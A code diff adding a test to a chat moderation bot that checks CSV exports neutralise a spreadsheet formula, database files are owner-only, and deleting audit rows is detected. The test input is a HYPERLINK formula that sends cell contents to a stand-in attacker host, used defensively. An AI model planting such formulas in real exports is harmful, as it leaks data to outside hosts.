@@ -112,3 +112,44 @@ async def test_export_uploads_a_csv_to_the_management_room(gated, mod):
     assert "first warning" in data.decode("utf-8-sig")
     await mod.command("!export gossip", "Usage: !export")
     await mod.command("!stats", "Measures in the last 30 days: warning: 1")
+
+
+async def test_records_hold_on_a_running_bot(gated, mod):
+    """The bot's own files are owner-only, a spreadsheet formula in a reason reaches the CSV inert,
+    and cutting the newest audit rows of the bot's real database is reported by `audit verify`."""
+    import os
+    import sqlite3
+    import stat
+    import subprocess
+    import sys
+
+    alice = await mod.member("alice", gated.hs)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
+    await mod.command(f"!warn {alice.user_id} {formula}", "Recorded")
+    await mod.command("!export cases", "Exported 1 cases row(s)")
+    files = [e for e in mod.moderator.messages(mod.room, mod.bot_id) if e["content"].get("msgtype") == "m.file"]
+    status, data = await mod.moderator.download(files[-1]["content"]["url"])
+    assert status == 200
+    text = data.decode("utf-8-sig")
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""open me"")"' in text, text
+    assert f"'{alice.user_id}" in text
+
+    workdir = mod.bot.workdir
+    modes = {name: stat.S_IMODE(os.stat(workdir / name).st_mode)
+             for name in ("bot.db", "bot.db-wal", "bot.db-shm", "bot.db.audit-head")}
+    assert set(modes.values()) == {0o600}, modes
+
+    def audit(*args):
+        return subprocess.run([sys.executable, "-m", "bot", "audit", *args, "--config", str(mod.bot.config_path)],
+                              capture_output=True, text=True, timeout=60)
+
+    mod.bot.stop()  # nothing appends while the tail is cut
+    head = audit("head")
+    assert head.returncode == 0, head.stdout + head.stderr
+    newest = int(head.stdout.split(":", 1)[0])
+    assert newest >= 2  # the warning and the export at least
+    with sqlite3.connect(workdir / "bot.db") as conn:
+        conn.execute("DELETE FROM audit_log WHERE id >= ?", (newest - 1,))
+    cut = audit("verify")
+    assert cut.returncode == 1, cut.stdout
+    assert f"rows {newest - 1}..{newest} were removed" in cut.stdout, cut.stdout
